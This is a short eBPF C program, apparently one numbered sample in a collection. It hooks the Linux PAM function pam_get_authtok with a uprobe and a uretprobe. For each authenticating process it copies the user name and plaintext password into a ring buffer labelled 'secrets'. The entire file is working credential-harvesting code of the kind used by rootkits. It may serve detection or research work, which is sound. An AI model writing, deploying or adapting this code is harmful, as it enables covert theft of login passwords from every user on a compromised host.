// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T10: user name and password from PAM: pam_get_authtok's output pointer is followed at its return.
#include "sample.h"

LICENSE;

struct secret {
	u32 pid;
	char comm[16];
	char user[32];
	char password[64];
};
struct args {
	u64 pamh, out;
};
HASH(calls, u64, struct args, 128);
RINGBUF(secrets, 1 << 16);

SEC("uprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int BPF_KPROBE(authtok_enter, void *pamh, int item, const char **authtok)
{
	u64 id = bpf_get_current_pid_tgid();
	struct args a = { (u64)pamh, (u64)authtok };

	bpf_map_update_elem(&calls, &id, &a, BPF_ANY);
	return 0;
}

SEC("uretprobe//lib/x86_64-linux-gnu/libpam.so.0:pam_get_authtok")
int BPF_KRETPROBE(authtok_exit, int ret)
{
	u64 id = bpf_get_current_pid_tgid(), p = 0, user = 0;
	struct args *a = bpf_map_lookup_elem(&calls, &id);
	struct secret *s;

	if (!a)
		return 0;
	s = bpf_ringbuf_reserve(&secrets, sizeof(*s), 0);
	if (!s)
		return 0;
	s->pid = tgid();
	bpf_get_current_comm(s->comm, sizeof(s->comm));
	bpf_probe_read_user(&user, sizeof(user), (void *)(a->pamh + 48));
	bpf_probe_read_user_str(s->user, sizeof(s->user), (void *)user);
	bpf_probe_read_user(&p, sizeof(p), (void *)a->out);
	bpf_probe_read_user_str(s->password, sizeof(s->password), (void *)p);
	bpf_ringbuf_submit(s, 0);
	bpf_map_delete_elem(&calls, &id);
	return 0;
}
